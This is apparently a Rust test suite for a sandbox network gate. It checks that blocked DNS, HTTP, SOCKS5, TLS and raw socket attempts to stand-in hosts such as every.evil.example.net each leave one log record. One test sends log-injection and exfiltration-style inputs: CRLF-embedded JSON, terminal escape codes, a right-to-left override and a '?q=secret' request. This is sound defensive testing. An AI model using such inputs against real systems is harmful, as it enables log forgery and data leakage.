//! One name, refused at every layer in one run: each refusal leaves one record, with the layer, the
//! entrance, the reason and the id that the program was told.

use crate::support::sandbox;
use crate::{assert_denials, shared};

const PROGRAM: &str = r#"
import gate, re, socket
name = 'every.evil.example.net'
reply = gate.ask(gate.query(name))
print('dns-udp', gate.rcode(reply), re.search(rb'id=([0-9a-z-]+)', reply)[1].decode())
reply = gate.ask(gate.query(name, 28), over_tcp=True)
print('dns-tcp', gate.rcode(reply), re.search(rb'id=([0-9a-z-]+)', reply)[1].decode())
answer = gate.connect(name + ':443')[1]
print('connect', gate.status(answer), re.search(r'; id=([0-9a-z-]+)"', answer)[1])
answer = gate.get('http://' + name + '/')
print('http', gate.status(answer), re.search(r'; id=([0-9a-z-]+)"', answer)[1])
print('socks5', gate.socks(name.encode(), 443)[1], '-')
socket.getaddrinfo('dual.example.com', 443)
print('tls', gate.alert(gate.tcp('203.0.113.62', 443), gate.client_hello(name)), '-')
print('tcp', gate.attempt('203.0.113.90', 443), '-')
print('udp', gate.datagram('203.0.113.90', 443), '-')
"#;

#[test]
fn each_denial_leaves_exactly_one_record() {
    let world = shared::world();
    let name = "every.evil.example.net";
    let ran = sandbox(&world).allow("dual.example.com").python(PROGRAM);
    ran.assert_ok();
    assert_denials(&ran, 8);
    for (protocol, layer, reason, whom, signature) in [
        ("dns-udp", "dns", "not-in-allowlist", name, "3"),
        ("dns-tcp", "dns", "not-in-allowlist", name, "3"),
        ("connect", "http", "not-in-allowlist", name, "403"),
        ("http", "http", "not-in-allowlist", name, "403"),
        ("socks5", "tcp", "not-in-allowlist", name, "2"),
        (
            "transparent",
            "tls",
            "sni-not-listed",
            name,
            "alert 2 112 end",
        ),
        (
            "kernel",
            "tcp",
            "address-not-leased",
            "203.0.113.90",
            "ECONNREFUSED",
        ),
        (
            "kernel",
            "udp",
            "protocol-not-allowed",
            "203.0.113.90",
            "EPERM",
        ),
    ] {
        let found: Vec<_> = ran
            .records
            .denials(layer, reason, whom)
            .into_iter()
            .filter(|record| record["protocol"] == protocol)
            .collect();
        assert_eq!(found.len(), 1, "{protocol} {layer} {reason}: {ran}");
        let key = if protocol == "transparent" || protocol == "kernel" {
            layer
        } else {
            protocol
        };
        let out = ran.out();
        let line = out
            .lines()
            .find(|line| line.starts_with(&format!("{key} ")))
            .unwrap_or_default();
        let (said, id) = line[key.len()..]
            .trim()
            .rsplit_once(' ')
            .unwrap_or_default();
        assert_eq!(said, signature, "{key}: {ran}");
        assert!(
            id == "-" || found[0]["id"] == id,
            "{key}: the program was told another id: {ran}"
        );
    }
    world.assert_never_asked("evil");
    world.assert_never_reached("203.0.113.90");
}

#[test]
fn equal_denials_within_a_second_share_one_record_with_a_count() {
    let world = shared::world();
    let ran = sandbox(&world).python(
        "import gate, time\n\
         begin = time.monotonic()\n\
         for _ in range(20):\n\
         \x20gate.ask(gate.query('count.evil.example.net')); gate.attempt('203.0.113.90', 443)\n\
         \x20gate.socks(b'count.evil.example.net', 443)\n\
         print(time.monotonic() - begin < 1)",
    );
    ran.assert_ok();
    assert_denials(&ran, 60);
    if ran.out() == "True\n" {
        // They may fall on both sides of one boundary, never on more.
        assert!(ran.records.all_denials().len() <= 6, "{ran}");
    }
}

#[test]
fn every_opened_flow_has_one_decision_and_one_close() {
    let world = shared::world();
    let ran = sandbox(&world).allow("raw.example.com:9000").python(
        "import gate\n\
         for open in (lambda: gate.tcp('raw.example.com', 9000), lambda: gate.connect('raw.example.com:9000')[0],\n\
         \x20             lambda: gate.socks(b'raw.example.com', 9000)[0]):\n\
         \x20s = open(); s.sendall(b'1234\\n'); assert gate.exactly(s, 5) == b'1234\\n'; s.shutdown(1); assert not s.recv(1); s.close()",
    );
    ran.assert_ok().assert_no_denial();
    for protocol in ["transparent", "connect", "socks5"] {
        let flow = ran.records.one(protocol, "raw.example.com");
        let close = ran
            .records
            .close_of(flow)
            .unwrap_or_else(|| panic!("no close: {ran}"));
        assert_eq!(
            (&close["bytes_up"], &close["bytes_down"]),
            (&5.into(), &5.into()),
            "{ran}"
        );
        assert_eq!(close["close_reason"], "finished", "{ran}");
        assert!(close["duration"].is_number(), "{ran}");
    }
    assert_eq!(ran.records.closes().len(), 3, "{ran}");
}

#[test]
fn whatever_bytes_the_sandbox_sends_a_record_is_one_line() {
    let world = shared::world();
    // The helpers check every line: JSON, of the schema, of bounded length.
    let ran = sandbox(&world).allow("api.example.com").python(
        "import gate\n\
         gate.socks(b'a\\n{\"x\":1}\\r\\n', 1); gate.socks('\\u202eevil'.encode(), 1); gate.socks(b'\\xff\\xfe\\x1b[31m', 1)\n\
         gate.http(b'GET http://api.example.com/\\x1b[2J\\xff HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')\n\
         gate.get('http://evil.example.net/' + 'p' * 60000 + '?q=secret')\n\
         gate.http('G' * 70000); gate.http('CONNECT ' + 'h' * 5000 + ':443 HTTP/1.1\\r\\n\\r\\n')\n\
         gate.ask(gate.query([b'\\n\\x1b[31m', b'evil', b'\\xff\\xfe', b'net']))",
    );
    ran.assert_ok();
    assert_denials(&ran, 8);
    let text = ran.records.to_string();
    assert!(
        !text.contains("secret") && !text.contains('\u{1b}'),
        "{ran}"
    );
    assert!(
        ran.records.0.iter().any(|record| record["cut"] == true),
        "what is cut is marked: {ran}"
    );
}
